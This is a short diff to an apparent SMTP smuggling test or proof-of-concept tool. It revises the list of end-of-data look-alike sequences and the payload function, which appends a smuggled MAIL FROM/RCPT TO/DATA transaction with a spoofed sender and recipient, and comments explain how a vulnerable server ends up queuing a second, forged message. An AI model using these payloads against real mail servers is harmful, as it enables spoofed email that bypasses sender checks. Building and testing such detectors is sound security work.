@@ -24,7 +24,11 @@ const HOSTS = 5;
 const SMUGGLED_SENDER = "smuggled@evil.example";
 const SMUGGLED_RCPT = "victim@hostile.example";
 
-/** End-of-data look-alikes: what comes before and after the dot. */
+/**
+ * End-of-data look-alikes: what comes before and after the dot. (`\r\r\n.\r\n`
+ * is not one: it holds the real `<CR><LF>.<CR><LF>`, which ends DATA on every
+ * server; the line before it merely ends in a bare CR.)
+ */
 const VARIANTS: readonly [string, string, string][] = [
   ["lf-dot-lf", "\n", "\n"],
   ["cr-dot-cr", "\r", "\r"],
@@ -33,15 +37,22 @@ const VARIANTS: readonly [string, string, string][] = [
   ["cr-dot-crlf", "\r", "\r\n"],
   ["crlf-dot-cr", "\r\n", "\r"],
   ["lfcr-dot-crlf", "\n\r", "\r\n"],
-  ["crcrlf-dot-crlf", "\r\r\n", "\r\n"],
+  ["lflf-dot-crlf", "\n\n", "\r\n"],
   ["crlf-dot-space-crlf", "\r\n", " \r\n"],
   ["crlf-dot-nul-crlf", "\r\n", "\0\r\n"],
 ];
 
+/**
+ * The look-alike, then a second transaction whose body runs on into the
+ * marker line: the only real end of data is the `<CR><LF>.<CR><LF>` after
+ * the marker. A server that takes the look-alike for the end runs the
+ * smuggled MAIL/RCPT/DATA and queues the rest as a second message; one
+ * that does not stores it all, marker included, as one message.
+ */
 function payload(pre: string, post: string): string {
   const e = post.replace(/^[ \0]/, "");
   return `${pre}.${post}MAIL FROM:<${SMUGGLED_SENDER}>${e}RCPT TO:<${SMUGGLED_RCPT}>${e}DATA${e}` +
-    `Subject: smuggled${e}${e}smuggled body${e}.${e}`;
+    `Subject: smuggled${e}${e}smuggled body${e}`;
 }
 
 /** The attack. */
